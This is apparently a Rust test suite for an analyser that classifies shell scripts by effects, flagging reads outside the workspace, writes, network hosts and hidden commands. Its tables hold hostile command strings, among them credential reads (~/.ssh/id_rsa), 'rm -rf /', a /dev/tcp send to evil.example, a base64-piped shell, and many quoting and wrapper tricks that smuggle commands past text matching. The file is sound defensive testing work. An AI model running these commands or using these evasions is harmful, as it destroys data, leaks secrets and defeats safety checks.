//! What scripts are found to do, hostile shapes above all. Each line of a table is a script and its effects:
//! `read`/`write` with a path (`!` before it when outside of the workspace), `look` or `run` with a program,
//! `net` with a host.

use super::{analysis, effects};
use expect_test::{Expect, expect};
use titan_protocol::Effect;
use titan_testkit::workbench::{MemoryWorkbench, Process};

#[rustfmt::skip] // A table.
const PROGRAMS: &[&str] = &[
    "awk", "bash", "busybox", "cargo", "cat", "chmod", "cp", "curl", "cut", "date", "dd", "diff", "du", "echo", "env", "find",
    "git", "grep", "head", "jq", "ls", "make", "mkdir", "mv", "nc", "nice", "nohup", "npm", "printf", "python3", "rg",
    "rm", "rsync", "scp", "sed", "sh", "sort", "ssh", "stat", "stdbuf", "sudo", "tail", "tar", "tee", "timeout", "touch",
    "true", "uniq", "wc", "wget", "which", "xargs", "xxd",
];

fn workbench() -> MemoryWorkbench {
    let place = MemoryWorkbench::new()
        .file("a.txt", "a")
        .file("src/main.rs", "fn main() {}")
        .folder("sub")
        .file("linked/inner.txt", "x")
        .link("linked/out", "/home/person/.ssh")
        .link("shadow.txt", "/etc/passwd")
        .file("/home/person/.ssh/id_rsa", "key")
        .file("/etc/passwd", "root");
    PROGRAMS
        .iter()
        .fold(place, |place, name| {
            place.program(name, |_| Process::exits(0))
        })
        .file("tool", "#!/bin/sh")
}

async fn effects_of(script: &str) -> Vec<Effect> {
    effects_in(script, &workbench()).await
}

async fn effects_in(script: &str, place: &MemoryWorkbench) -> Vec<Effect> {
    effects::resolve(&analysis::analyze(script), place).await
}

fn shown(effect: &Effect) -> String {
    let path = |path: &std::path::Path, in_workspace: bool| {
        let text = path.display().to_string();
        match text.strip_prefix("/workspace") {
            Some("") => ".".to_owned(),
            Some(rest) if in_workspace => rest.trim_start_matches('/').to_owned(),
            _ => format!("!{text}"),
        }
    };
    match effect {
        Effect::Read {
            path: at,
            in_workspace,
        } => format!("read {}", path(at, *in_workspace)),
        Effect::Write {
            path: at,
            in_workspace,
        } => format!("write {}", path(at, *in_workspace)),
        Effect::Network { host, port } => format!("net {host}:{port}"),
        Effect::Run {
            program,
            reads_only,
            ..
        } => {
            let name = program.strip_prefix("/usr/bin/").unwrap_or(program);
            format!("{} {name}", if *reads_only { "look" } else { "run" })
        }
        other => format!("{other:?}"),
    }
}

async fn check_effects(scripts: &[&str], expected: Expect) {
    let mut table = String::new();
    for script in scripts {
        let effects: Vec<String> = effects_of(script).await.iter().map(shown).collect();
        table.push_str(&format!("{script:?}\n    {}\n", effects.join(", ")));
    }
    expected.assert_eq(&table);
}

/// Whether all that the script does is look, inside of the workspace.
async fn only_looks_inside(script: &str) -> bool {
    effects_of(script).await.iter().all(|effect| match effect {
        Effect::Read { in_workspace, .. } => *in_workspace,
        Effect::Run { reads_only, .. } => *reads_only,
        _ => false,
    })
}

#[tokio::test]
async fn commands_that_look_are_known_and_name_what_they_read() {
    check_effects(
        &[
            "ls",
            "ls -la src",
            "cat a.txt src/main.rs",
            "grep -rn main src",
            "grep -rn main",
            "head -20 a.txt | wc -l",
            "rg -n 'fn main' src",
            "git status",
            "git -C sub log --oneline -5",
            "git diff HEAD~1 -- src",
            "find . -name '*.rs' | sort | uniq -c",
            "sed -n '1,20p' a.txt",
            "awk '{print $1}' a.txt",
            "cat src/*.rs",
            "cargo metadata --no-deps --format-version 1",
            "cargo tree --frozen",
            "cat {a,b}.txt",
            "cat < a.txt",
            "if [ -f a.txt ]; then cat a.txt; fi",
            "for f in a b; do echo \"$f\"; done",
            "find . -name '*.rs' -exec wc -l {} +",
            "cd sub && cat x",
            "echo \"$(cat a.txt)\"",
            "python3 --version",
            "set -euo pipefail\nls",
            "n=$(wc -l < a.txt)\necho \"$n lines\"",
            "while read -r line; do echo \"$line\"; done < a.txt",
            "diff a.txt src/main.rs 2>&1 || true",
        ],
        expect![[r#"
            "ls"
                look ls, read .
            "ls -la src"
                look ls, read src
            "cat a.txt src/main.rs"
                look cat, read a.txt, read src/main.rs
            "grep -rn main src"
                look grep, read src
            "grep -rn main"
                look grep, read .
            "head -20 a.txt | wc -l"
                look head, read a.txt, look wc
            "rg -n 'fn main' src"
                look rg, read src
            "git status"
                look git, read .
            "git -C sub log --oneline -5"
                look git, read sub
            "git diff HEAD~1 -- src"
                look git, read .
            "find . -name '*.rs' | sort | uniq -c"
                look find, read ., look sort, look uniq
            "sed -n '1,20p' a.txt"
                look sed, read a.txt
            "awk '{print $1}' a.txt"
                look awk, read a.txt
            "cat src/*.rs"
                look cat, read src
            "cargo metadata --no-deps --format-version 1"
                look cargo, read .
            "cargo tree --frozen"
                look cargo, read .
            "cat {a,b}.txt"
                look cat, read a.txt, read b.txt
            "cat < a.txt"
                read a.txt, look cat
            "if [ -f a.txt ]; then cat a.txt; fi"
                look [, look cat, read a.txt
            "for f in a b; do echo \"$f\"; done"
                look echo
            "find . -name '*.rs' -exec wc -l {} +"
                look wc, read ., look find
            "cd sub && cat x"
                look cd, look cat, read sub/x
            "echo \"$(cat a.txt)\""
                look cat, read a.txt, look echo
            "python3 --version"
                look python3
            "set -euo pipefail\nls"
                look set, look ls, read .
            "n=$(wc -l < a.txt)\necho \"$n lines\""
                read a.txt, look wc, look echo
            "while read -r line; do echo \"$line\"; done < a.txt"
                read a.txt, look read, look echo
            "diff a.txt src/main.rs 2>&1 || true"
                look diff, read a.txt, read src/main.rs, look true
        "#]],
    )
    .await;
}

#[tokio::test]
async fn x4_reading_outside_of_the_workspace_is_visible() {
    check_effects(
        &[
            "cat /etc/passwd",
            "cat ~/.ssh/id_rsa",
            "cat shadow.txt",
            "cat ../x",
            "cd /etc && cat passwd",
            "cd ..; cat x",
            "cat linked/*/id_rsa",
            "cat linked/*",
            "grep -R key linked",
            "grep -r key linked",
            "cat \"$f\"",
            "cat $(echo /etc/passwd)",
            "wc -l < /etc/passwd",
            "cat <<< \"$(cat /etc/passwd)\"",
            "cat <<EOF\n$(cat /etc/passwd)\nEOF",
            "cat 'a'\"b\"\\c",
            "ls | xargs cat",
            "git diff --stat /etc/passwd",
            "cat '~/x'",
            "source /etc/passwd",
            "cat ~root/x",
            "cat $'/etc/passwd'",
            "grep -f /etc/passwd a.txt",
            "cd sub; cat ../a.txt",
            "(cd /etc); cat passwd",
            "cd \"$x\" && cat y",
        ],
        expect![[r#"
            "cat /etc/passwd"
                look cat, read !/etc/passwd
            "cat ~/.ssh/id_rsa"
                look cat, read !/home/person/.ssh/id_rsa
            "cat shadow.txt"
                look cat, read !/etc/passwd
            "cat ../x"
                look cat, read !/x
            "cd /etc && cat passwd"
                look cd, look cat, read !/etc/passwd
            "cd ..; cat x"
                look cd, look cat, read !/
            "cat linked/*/id_rsa"
                look cat, read linked, read !/home/person/.ssh
            "cat linked/*"
                look cat, read linked, read !/home/person/.ssh
            "grep -R key linked"
                look grep, read linked, read !/home/person/.ssh
            "grep -r key linked"
                look grep, read linked
            "cat \"$f\""
                look cat, read !/
            "cat $(echo /etc/passwd)"
                look echo, look cat, read !/
            "wc -l < /etc/passwd"
                read !/etc/passwd, look wc
            "cat <<< \"$(cat /etc/passwd)\""
                look cat, read !/etc/passwd, look cat
            "cat <<EOF\n$(cat /etc/passwd)\nEOF"
                look cat, read !/etc/passwd, look cat
            "cat 'a'\"b\"\\c"
                look cat, read abc
            "ls | xargs cat"
                look ls, read ., look cat, read !/
            "git diff --stat /etc/passwd"
                read !/etc/passwd, look git, read .
            "cat '~/x'"
                look cat, read ~/x
            "source /etc/passwd"
                read !/etc/passwd, run source
            "cat ~root/x"
                look cat, read !/
            "cat $'/etc/passwd'"
                look cat, read !/
            "grep -f /etc/passwd a.txt"
                look grep, read a.txt, read !/etc/passwd
            "cd sub; cat ../a.txt"
                look cd, look cat, read !/a.txt, read a.txt
            "(cd /etc); cat passwd"
                look cd, look cat, read passwd
            "cd \"$x\" && cat y"
                look cd, look cat, read !/
        "#]],
    )
    .await;
}

#[tokio::test]
async fn writing_names_what_is_written() {
    check_effects(
        &[
            "rm -rf build",
            "rm -rf /",
            "rm \"$x\"",
            "mv a.txt b.txt",
            "cp a.txt /tmp/x",
            "mkdir -p src/{x,y}",
            "touch new",
            "echo hi > out.txt",
            "echo hi >> ~/.bashrc",
            "echo hi | tee log /etc/x",
            "cmd &> all.log",
            ": > a.txt",
            "cat a.txt >| b",
            "chmod +x a.txt",
            "sed -i s/a/b/ a.txt",
            "find . -name x -delete",
            "find . -exec rm {} \\;",
            "dd if=a.txt of=/dev/sda",
            "cat > new.txt <<'EOF'\n$(rm -rf x)\nEOF",
            "echo x > \"$f\"",
            "echo > /dev/null",
            "cd sub && rm x",
            "ln -s /etc/passwd p",
            "exec > out",
            "ls 2> err | cat",
            "{ ls; } > all",
            "for i in 1; do :; done > loop",
        ],
        expect![[r#"
            "rm -rf build"
                run rm, write build
            "rm -rf /"
                run rm, write !/
            "rm \"$x\""
                run rm, write !/
            "mv a.txt b.txt"
                run mv, write a.txt, write b.txt
            "cp a.txt /tmp/x"
                run cp, read a.txt, write !/tmp/x
            "mkdir -p src/{x,y}"
                run mkdir, write src/x, write src/y
            "touch new"
                run touch, write new
            "echo hi > out.txt"
                write out.txt, look echo
            "echo hi >> ~/.bashrc"
                write !/home/person/.bashrc, look echo
            "echo hi | tee log /etc/x"
                look echo, run tee, write log, write !/etc/x
            "cmd &> all.log"
                write all.log, run cmd
            ": > a.txt"
                write a.txt, look :
            "cat a.txt >| b"
                write b, look cat, read a.txt
            "chmod +x a.txt"
                run chmod, write a.txt
            "sed -i s/a/b/ a.txt"
                run sed, read a.txt, write a.txt
            "find . -name x -delete"
                write ., run find, read .
            "find . -exec rm {} \\;"
                run rm, write ., look find, read .
            "dd if=a.txt of=/dev/sda"
                run dd, read a.txt, write !/dev/sda
            "cat > new.txt <<'EOF'\n$(rm -rf x)\nEOF"
                write new.txt, look cat
            "echo x > \"$f\""
                write !/, look echo
            "echo > /dev/null"
                look echo
            "cd sub && rm x"
                look cd, run rm, write sub/x
            "ln -s /etc/passwd p"
                run ln, read !/etc/passwd, write p
            "exec > out"
                write out, look exec
            "ls 2> err | cat"
                write err, look ls, read ., look cat
            "{ ls; } > all"
                write all, look ls, read .
            "for i in 1; do :; done > loop"
                write loop, look :
        "#]],
    )
    .await;
}

#[tokio::test]
async fn the_network_is_named_by_host_where_it_can_be() {
    check_effects(
        &[
            "curl https://Example.org/x",
            "curl -sS example.org:8080",
            "curl -L https://example.org",
            "curl -o f https://example.org",
            "curl \"$u\"",
            "curl -K conf",
            "curl file:///etc/passwd",
            "wget https://example.org/a",
            "ssh me@host.example ls",
            "scp a.txt me@host.example:/x",
            "git push",
            "git clone https://github.com/a/b",
            "git fetch git@github.com:a/b.git",
            "nc example.org 80",
            "echo x > /dev/tcp/evil.example/80",
            "npm install",
            "cargo metadata",
            "cargo build",
            "curl https://{a,b}.example",
            "curl -x proxy https://example.org",
        ],
        expect![[r#"
            "curl https://Example.org/x"
                look curl, net example.org:443
            "curl -sS example.org:8080"
                look curl, net example.org:8080
            "curl -L https://example.org"
                look curl, net *:443, net example.org:443
            "curl -o f https://example.org"
                run curl, write f, net example.org:443
            "curl \"$u\""
                run curl, net *:443
            "curl -K conf"
                run curl, net *:443, net conf:80
            "curl file:///etc/passwd"
                look curl, read !/etc/passwd
            "wget https://example.org/a"
                run wget, net *:443, net example.org:443
            "ssh me@host.example ls"
                run ssh, net host.example:22
            "scp a.txt me@host.example:/x"
                run scp, write a.txt, net host.example:22
            "git push"
                run git, read ., net *:443
            "git clone https://github.com/a/b"
                run git, read ., net github.com:443
            "git fetch git@github.com:a/b.git"
                run git, read ., net github.com:22
            "nc example.org 80"
                run nc, net example.org:80
            "echo x > /dev/tcp/evil.example/80"
                net evil.example:80, look echo
            "npm install"
                net *:443, run npm, write !/home/person/.npm/
            "cargo metadata"
                look cargo, read ., net *:443, write !/home/person/.cargo/registry/, write !/home/person/.cargo/git/, write Cargo.lock
            "cargo build"
                run cargo, read ., net *:443, write !/home/person/.cargo/registry/, write !/home/person/.cargo/git/, write Cargo.lock
            "curl https://{a,b}.example"
                look curl, net a.example:443, net b.example:443
            "curl -x proxy https://example.org"
                run curl, net *:443, net proxy:80, net example.org:443
        "#]],
    )
    .await;
}

#[tokio::test]
async fn what_a_toolchain_writes_outside_is_claimed_with_its_command() {
    check_effects(
        &[
            "cargo build --offline",
            "cargo +nightly test --offline --locked",
            "cargo check --offline --target-dir /tmp/t",
            "CARGO_TARGET_DIR=~/.cache/t cargo clippy --frozen",
            "export CARGO_TARGET_DIR=\"$HOME/.cache/t\"\ncargo test --frozen",
            "cargo fmt --check",
            "cargo install ripgrep",
            "npm ci && npm test",
            "python3 -m pip install x",
            ".venv/bin/pip install x",
            "uv sync",
            "go build ./...",
            "go mod tidy",
            "git clone https://example.org/x /srv/x",
            "git clone --depth 1 https://example.org/x",
        ],
        expect![[r#"
            "cargo build --offline"
                run cargo, read ., write Cargo.lock
            "cargo +nightly test --offline --locked"
                run cargo, read .
            "cargo check --offline --target-dir /tmp/t"
                run cargo, read ., write Cargo.lock, write !/tmp/t/
            "CARGO_TARGET_DIR=~/.cache/t cargo clippy --frozen"
                run cargo, read ., write !/home/person/.cache/t/
            "export CARGO_TARGET_DIR=\"$HOME/.cache/t\"\ncargo test --frozen"
                run export, run cargo, read ., write !/home/person/.cache/t/
            "cargo fmt --check"
                run cargo, read .
            "cargo install ripgrep"
                run cargo, read ., net *:443, write !/home/person/.cargo/, write Cargo.lock
            "npm ci && npm test"
                net *:443, run npm, write !/home/person/.npm/, run npm
            "python3 -m pip install x"
                run python3, net *:443, write !/home/person/.cache/pip/
            ".venv/bin/pip install x"
                run .venv/bin/pip, net *:443, write !/home/person/.cache/pip/
            "uv sync"
                net *:443, run uv, write !/home/person/.cache/uv/, write !/home/person/.local/share/uv/
            "go build ./..."
                run go, write !/home/person/.cache/go-build/, write !/home/person/go/pkg/
            "go mod tidy"
                run go, net *:443, write !/home/person/.cache/go-build/, write !/home/person/go/pkg/
            "git clone https://example.org/x /srv/x"
                run git, read ., write !/srv/x/, net example.org:443
            "git clone --depth 1 https://example.org/x"
                run git, read ., net example.org:443
        "#]],
    )
    .await;
}

/// Builds, commits and settings of a workspace whose own files lie elsewhere, or whose settings say so.
#[tokio::test]
async fn folders_for_builds_and_repositories_elsewhere_are_found() {
    let common = "/home/person/main/.git";
    let places = [
        workbench().file(
            ".cargo/config.toml",
            "[build]\ntarget-dir = \"/big/target\"\n",
        ),
        workbench().file(".cargo/config.toml", "[build]\ntarget-dir = \"out\"\n"),
        workbench().file(
            "/home/person/.cargo/config.toml",
            "build.target-dir = '../shared'\n",
        ),
        workbench().file(".git/config", "[core]\n"),
        workbench()
            .file(".git", format!("gitdir: {common}/worktrees/w\n"))
            .file(&format!("{common}/worktrees/w/commondir"), "../..\n"),
    ];
    let scripts = [
        "cargo test --frozen",
        "git commit -m x",
        "git remote add o https://example.org/x",
        "git config --get a.b",
    ];
    let mut table = String::new();
    for place in places {
        for script in scripts {
            let effects: Vec<String> = effects_in(script, &place).await.iter().map(shown).collect();
            table.push_str(&format!("{script}\n    {}\n", effects.join(", ")));
        }
        table.push('\n');
    }
    expect![[r#"
        cargo test --frozen
            run cargo, read ., write !/big/target/
        git commit -m x
            run git, read .
        git remote add o https://example.org/x
            run git, read ., net example.org:443
        git config --get a.b
            run git, read .

        cargo test --frozen
            run cargo, read .
        git commit -m x
            run git, read .
        git remote add o https://example.org/x
            run git, read ., net example.org:443
        git config --get a.b
            run git, read .

        cargo test --frozen
            run cargo, read ., write !/home/shared/
        git commit -m x
            run git, read .
        git remote add o https://example.org/x
            run git, read ., net example.org:443
        git config --get a.b
            run git, read .

        cargo test --frozen
            run cargo, read .
        git commit -m x
            run git, read .
        git remote add o https://example.org/x
            run git, read ., write !/workspace/.git/config, net example.org:443
        git config --get a.b
            run git, read .

        cargo test --frozen
            run cargo, read .
        git commit -m x
            run git, read ., write !/home/person/main/.git/
        git remote add o https://example.org/x
            run git, read ., write !/home/person/main/.git/, write !/home/person/main/.git/config, net example.org:443
        git config --get a.b
            run git, read .

    "#]].assert_eq(&table);
}

/// X1 to X3, X7, X8: each hides a command from those who match text. None may pass as looking.
#[tokio::test]
async fn x1_x2_x3_x4_x7_x8_no_hidden_command_passes_as_looking() {
    #[rustfmt::skip] // A table.
    let hostile = [
        // Separators and substitutions.
        "ls; rm x", "ls\nrm x", "ls & rm x", "ls | sh", "ls && rm x", "ls || rm x", "ls |& sh", "ls $(rm x)", "ls `rm x`",
        "cat <(rm x)", "ls > >(sh)", "cat <<EOF\n$(rm x)\nEOF", "cat <<EOF\n`rm x`\nEOF", "cat <<< $(rm x)", "echo \"$(rm x)\"",
        "echo \"${x:-$(rm x)}\"", "echo ${x:-`rm x`}", "echo $((a[$(rm x)]))", "echo $((x))", "(( x = 1 ))", "for ((i=0;i<1;i++)); do ls; done",
        "x=$(rm x)", "x=(1 $(rm x))", "a[$(rm x)]=1", "case $(rm x) in a) ls;; esac", "case a in $(rm x)) ls;; esac",
        "case a in a) rm x;; esac", "[[ -n $(rm x) ]]", "[[ a[$(rm x)] -eq 1 ]]", "[[ -v 'a[$(rm x)]' ]]", "if rm x; then ls; fi",
        "while rm x; do ls; done", "until rm x; do ls; done", "for f in $(rm x); do ls; done", "( rm x )", "{ rm x; }", "! rm x", "time rm x",
        "coproc rm x", "f() { rm x; }", "function f { rm x; }; f", "echo \"$(echo \"$(rm x)\")\"", "echo \"$(echo a # )\nrm x\n)\"",
        "echo \"$(cat <<E\n)\nE\nrm x)\"", "echo $(echo ')' ; rm x)", "echo \"$(case a in a) rm x;; esac)\"", "!(rm x)", "echo @(rm x)",
        "ls \\\n; rm x", "l\\s; r\\m x", "r''m x", "r\"\"m x", "$'rm' x", "$'\\x72m' x", "{rm,x}", "{ls,-la,}; {rm,-rf,x}", "r[m] x", "$x y", "\"$x\"",
        "$(echo rm) x", "`echo rm` x", "${x} y", "ls\u{a0}; rm x", "ls\r\nrm x", "ls \u{0}rm", "select x in a; do rm x; done",
        "<<EOF bash\nrm x\nEOF", "bash <<'EOF'\nrm x\nEOF", "echo rm x | bash", "echo cm0gLXJmCg== | base64 -d | sh",
        "cat <<E\nE\\\n\nrm x\nE\n", "cat <<\\E\nE\nrm x", "cat <<E'x'\nEx\nrm x", "cat <<'a b'\na b\nrm x", "cat <<-E\n\tE\nrm x",
        "cat <<E <<F\nE\nF\nrm x", "cat <<$x\n$x\nrm x", "cat <<E\n\\\nE\nrm x", "echo $#; rm x", "echo a#; rm x", "echo \"a\"#; rm x",
        "echo a\\ #; rm x", "echo ''#; rm x", "echo $(true)#; rm x", "ls;#x\nrm x", "echo ${x#y}; rm x", "echo \\#; rm x",
        // Wrappers.
        "env rm x", "env -i rm x", "env -S 'rm x'", "env A=b rm x", "env PATH=. ls", "time rm x", "nice rm x", "nice -n 5 rm x", "nohup rm x",
        "timeout 5 rm x", "timeout -k 1 5 rm x", "stdbuf -oL rm x", "setsid rm x", "flock l rm x", "ls | xargs rm", "xargs -I{} rm {} < a.txt",
        "xargs -a a.txt rm", "ls | xargs -I{} sh -c '{}'", "find . -exec rm {} +", "find . -execdir ls {} +", "find . -ok rm {} \\;",
        "find . -fprint x", "find . -delete", "find $x", "find . $x", "busybox rm x", "busybox ls", "command rm x", "builtin eval rm x", "exec rm x",
        "sudo ls", "doas ls", "chroot . ls", "script -c 'rm x'", "watch rm x", "parallel rm ::: x", "strace ls", "unshare ls", "nsenter ls", "su -c ls",
        "sh -c 'rm x'", "bash -c 'rm x'", "bash -ec 'rm x'", "bash -lc 'ls'", "bash -c \"$x\"", "bash -c \"ls; $x\"", "bash script.sh", "bash -i -c ls",
        "bash --rcfile x -c ls", "bash -c 'bash -c \"rm x\"'", "eval rm x", "eval \"$x\"", "eval 'r''m x'", "ssh host ls", ". ./a.txt", "source a.txt",
        "/usr/bin/env rm x", "./ls", "./tool", "sub/ls", "/tmp/ls", "time -o x ls", "exec -a ls rm x", "command -p rm x", "nice sh -c 'rm x'",
        // Options of "safe" programs.
        "sort -o x a.txt", "sort --output=x a.txt", "sort --outp=x a.txt", "sort --compress-program=./x a.txt", "sort -S1 --compress-prog ./x a.txt",
        "sort *", "sort \"$x\"", "tar xf x.tar", "tar -cf x --to-command=./x .", "git -c core.pager=./x log", "git --exec-path=. status",
        "git diff --output=x", "git diff --outpu=x", "git log --ext-diff", "git grep -O./x main", "git grep --open-files-in-pager=./x main",
        "git diff \"$x\"", "git branch new", "git branch -D main", "git tag v1", "git stash", "git checkout .", "git config core.pager x",
        "git remote add x y", "git reflog expire --all", "git ls-remote ext::sh", "git foo", "git -p log", "git show --textconv",
        "awk 'BEGIN{system(\"rm x\")}'", "awk '{print > \"x\"}' a.txt", "awk -f x.awk", "awk \"$x\"", "sed -i s/a/b/ a.txt", "sed -n 'w x' a.txt",
        "sed '1e rm x' a.txt", "sed s/a/rm/e a.txt", "sed -f x a.txt", "sed -n \"$x\" a.txt", "sed --in-place=b s/a/b/ a.txt", "sed -ni p a.txt", "less a.txt",
        "man -P ./x ls", "rsync -e ./x a b", "rg --pre ./x main", "rg --pre=./x main", "rg -z main", "rg --hostname-bin ./x a", "rg \"$x\"",
        "uniq a.txt b.txt", "xxd -r a.txt b.txt", "tree -o x", "diff -l a.txt b", "date -s now", "date 01010000", "hostname x", "file -C -m x", "jq -n input_filename --from-file x",
        "vim a.txt", "python3 -c 'print(1)'", "node -e 1", "perl -e 1", "make", "cargo build", "cargo --config x metadata", "cargo metadata", "cargo tree",
        "curl https://example.org", "printf -v x y", "printf \"$x\"", "test -v 'a[$(rm x)]'", "[ \"$x\" \"$y\" ]", "find . -exec sh -c 'rm x' \\;",
        "find . -exec sh -c '{}' \\;", "column -t $(rm x)", "printenv > x", "echo x >& y", "echo x &>> y", "ls <> y",
        // What changes what later commands mean.
        "PATH=.; ls", "PATH=. ls", "export PATH=.\nls", "LD_PRELOAD=./x ls", "IFS=x; ls", "BASH_ENV=x bash -c ls", "GIT_PAGER=x git log", "alias ls=rm\nls",
        "shopt -s expand_aliases\nls", "trap 'rm x' EXIT", "trap \"$x\" EXIT", "set -o posix; ls", "set -- rm x; \"$@\"", "enable -f ./x ls", "hash -p ./x ls; ls",
        "declare -x PATH=.; ls", "typeset PATH=.; ls", "readonly PATH=.; ls", "unset PATH; ls", "read PATH < a.txt; ls", "mapfile PATH < a.txt; ls", "printf -v PATH .; ls",
        "for PATH in .; do ls; done", "let PATH=1; ls", "ls() { rm x; }; ls", "GIT_EXTERNAL_DIFF=x git diff", "RIPGREP_CONFIG_PATH=x rg a", "http_proxy=x ls && https_proxy=y; ls",
        ": ${PATH:=.}; ls", "${x@P}", "echo ${x@P}", "echo ${!x}", "x='a[$(rm x)]'; echo ${a[x]}", "exec 3<>/dev/tcp/h/1", "ulimit -n 1; ls", "getopts a PATH; ls",
        // What can't be parsed.
        "ls 'a", "ls \"a", "ls $(", "if ls", "ls )", "ls ;;", "<<EOF", "for", "ls |", "{",
    ];
    let mut passed = Vec::new();
    for script in hostile {
        if only_looks_inside(script).await {
            passed.push(script);
        }
    }
    assert_eq!(passed, Vec::<&str>::new());
}

#[tokio::test]
async fn everyday_looking_does_not_ask() {
    #[rustfmt::skip] // A table.
    let harmless = [
        "ls -la", "cat a.txt", "git status --short", "git log --oneline -n 10", "git diff --stat", "git show HEAD", "git branch -a", "git branch --list 'x*'",
        "git remote -v", "git blame -L 1,10 a.txt", "git ls-files | head -50", "git rev-parse --abbrev-ref HEAD", "rg -n --glob '*.rs' main", "rg --files | wc -l",
        "grep -rn --include='*.rs' 'fn main' .", "find . -type f -name '*.toml' -not -path './target/*'", "find src -name '*.rs' -exec grep -l main {} +",
        "find . -name '*.rs' | head -5 | sort -u", "wc -l src/*.rs | tail -1", "sed -n '10,20p' src/main.rs", "cat a.txt | sed 's/a/b/g' | sort -rn | uniq -c",
        "awk -F: '{print $1}' a.txt | sort -u", "cd src && ls", "echo hello", "pwd", "date +%Y", "which cargo", "command -v cargo", "test -f a.txt && echo yes",
        "[ -d src ] || echo no", "for d in src sub; do echo \"$d\"; ls \"./sub\"; done", "cargo --version", "timeout 10 ls", "nice -n 5 grep -r x .", "bash -c 'ls -la'",
        "du -sh . | cut -f1", "stat a.txt", "head -c 100 a.txt", "tail -n +5 a.txt", "ls 2>/dev/null", "ls > /dev/null 2>&1", "LC_ALL=C sort a.txt", "env LC_ALL=C ls",
        "x=1\necho \"$x\"", "echo $((1 + 2))", "files=$(git ls-files)\necho \"$files\" | wc -l", "cat <<'EOF'\n$(rm -rf x)\nEOF", "cat <<EOF\nplain\nEOF", "if ls; then pwd; else date; fi",
        "jq -r .name a.txt", "[[ -f a.txt && $x == y* ]] && echo yes", "echo ${x:-default} ${#x} ${x%.txt} ${x//a/b}", "true; false; :", "diff -u a.txt src/main.rs",
    ];
    let mut asked = Vec::new();
    for script in harmless {
        if !only_looks_inside(script).await {
            let effects: Vec<String> = effects_of(script).await.iter().map(shown).collect();
            asked.push(format!("{script:?}: {}", effects.join(", ")));
        }
    }
    assert_eq!(asked, Vec::<String>::new());
}

#[tokio::test]
async fn deep_and_long_scripts_end_as_opaque() {
    let hostile = [
        "(".repeat(50_000),
        "$(".repeat(50_000),
        "\"$(".repeat(80),
        "`".repeat(99),
        "if ".repeat(20_000),
        "! ".repeat(20_000),
        "{ ".repeat(20_000),
        format!("{}ls{}", "$(".repeat(60), ")".repeat(60)),
        format!("{}ls{}", "\"$(".repeat(40), ")\"".repeat(40)),
        format!("{}ls{}", "( ".repeat(80), " )".repeat(80)),
        format!("{}ls{}", "f() { ".repeat(40), "; }".repeat(40)),
        format!(
            "{}cd x{}",
            "while true; do ".repeat(40),
            "; done".repeat(40)
        ),
        format!("echo {}", "{a,b}".repeat(40)),
        format!("echo {}", "{".repeat(20_000)),
        "ls;".repeat(40_000),
        format!("echo {}", "${x:-".repeat(90)),
        format!("echo {}x{}", "${x:-".repeat(90), "}".repeat(90)),
        format!("a{}", "[".repeat(5_000)),
        format!("[[ {} a ]]", "! ".repeat(5_000)),
        format!("[[ {} a {} ]]", "( ".repeat(5_000), ") ".repeat(5_000)),
        format!("echo $(( {}1{} ))", "(".repeat(5_000), ")".repeat(5_000)),
        format!("cat {}", "a ".repeat(10_000)),
        "while do'm'<<-E\"E$(( (((\"m\"$\" if$( <<E ".to_owned(),
        "cat $( <<E ".to_owned(),
        format!("{}ls{}", "if ls; then ".repeat(80), "; fi".repeat(80)),
        format!("{}ls{}", "case a in a) ".repeat(80), ";; esac".repeat(80)),
        format!("{}ls{}", "{ ( ".repeat(40), "; ) }".repeat(40)),
        format!(
            "{}ls{}",
            "while if ".repeat(40),
            "; then ls; fi; do ls; done".repeat(40)
        ),
        format!("{}ls{}", "! { ".repeat(40), "; }".repeat(40)),
        format!("[[ {} a {} ]]", "( ".repeat(90), ") ".repeat(90)),
        format!("echo {}ls{}", "$(".repeat(90), ")".repeat(90)),
    ];
    for script in hostile {
        let head: String = script.chars().take(20).collect();
        let claims = analysis::analyze(&script);
        assert!(claims.len() <= 257, "{head}");
    }
}
